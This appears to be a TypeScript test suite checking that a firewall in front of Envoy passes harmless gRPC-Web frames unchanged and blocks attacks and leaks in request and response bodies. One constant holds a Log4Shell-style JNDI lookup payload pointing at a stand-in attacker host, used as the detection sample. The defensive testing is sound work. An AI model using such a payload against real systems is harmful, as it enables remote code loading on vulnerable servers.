// gRPC-Web through Envoy, binary and as base64 text, in every body mode: frames pass unchanged, attacks in them are found.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { configurationByMode, MODES, type Mode } from "./body-routes.ts";
import { perform } from "./open-exchange.ts";
import { ProtectedApi, withTrailers } from "./protected-api.ts";

const LOOKUP = "${jndi:ldap://evil.example/a}";
const LEAK = "-----BEGIN RSA PRIVATE KEY-----";
const TRAILERS = frame(0x80, Buffer.from("grpc-status:0\r\n"));

interface Form {
  type: string;
  encode: (bytes: Buffer) => Buffer;
}

const FORMS: Form[] = [
  { type: "application/grpc-web+proto", encode: (bytes) => bytes },
  { type: "application/grpc-web-text", encode: (bytes) => Buffer.from(bytes.toString("base64")) },
];

describe("gRPC-Web through Envoy 1.40.0", { concurrency: 4 }, () => {
  let api: ProtectedApi;
  before(async () => {
    api = await ProtectedApi.start({
      ...{ version: "1.40.0", configuration: configurationByMode({}), edit: withTrailers },
    });
  });
  after(async () => {
    await api?.assertHealthy();
    await api?.stop();
  });

  /** A call in which each frame is a piece of its own. */
  async function call(
    mode: Mode,
    { type, encode }: Form,
    texts: readonly string[],
    answers: readonly string[],
  ) {
    const id = randomUUID();
    const path = `/${mode}/${id}`;
    const headers = { "content-type": type };
    const body = [...answers.map((text) => encode(message(text))), encode(TRAILERS)];
    api.upstream.reply(id, { status: 200, headers, body, framing: "chunked", pauseMs: 1 });
    const response = await perform(api.port, {
      ...{ protocol: "HTTP/1.1", method: "POST", path, pauseMs: 1 },
      headers: { "x-test-id": id, ...headers },
      body: texts.map((text) => encode(message(text))),
    });
    const { event } = await api.traffic.of(path);
    return { response, event, request: api.upstream.of(id)[0], whole: Buffer.concat(body) };
  }

  for (const mode of MODES) {
    for (const form of FORMS) {
      test(`${mode}, ${form.type}: harmless messages → pass unchanged`, async () => {
        const { response, event, request, whole } = await call(
          mode,
          form,
          ["Ada", "two lamps"],
          ["fine", "paid"],
        );
        assert.deepEqual([response.status, response.ending, event], [200, "complete", undefined]);
        assert.ok(request?.complete && response.body.equals(whole));
      });

      if (mode === "NONE") continue;
      test(`${mode}, ${form.type}: attack in the second message → blocked, it does not arrive`, async () => {
        const { event, request } = await call(mode, form, ["Ada", LOOKUP], ["fine"]);
        assert.deepEqual(
          [event?.action, event?.phase, event?.rules],
          ["block", "request_body", ["wg-jndi-001"]],
        );
        const arrived = request?.body ?? Buffer.alloc(0);
        assert.equal(request?.complete ?? false, false);
        assert.equal(arrived.includes(form.encode(message(LOOKUP))), false);
      });

      test(`${mode}, ${form.type}: leak in the second answer → it does not arrive`, async () => {
        const { response, event } = await call(mode, form, ["Ada"], ["fine", LEAK, "late"]);
        assert.deepEqual([event?.phase, event?.rules], ["response_body", ["wg-resp-004"]]);
        assert.ok(event?.action === "reset" || event?.action === "block");
        assert.equal(response.body.includes(form.encode(message(LEAK))), false);
      });
    }
  }
});

/** A frame with a message of one string field. */
function message(text: string): Buffer {
  const bytes = Buffer.from(text);
  return frame(0, Buffer.concat([Buffer.of(0x0a, bytes.length), bytes]));
}

function frame(flags: number, content: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(flags);
  head.writeUInt32BE(content.length, 1);
  return Buffer.concat([head, content]);
}
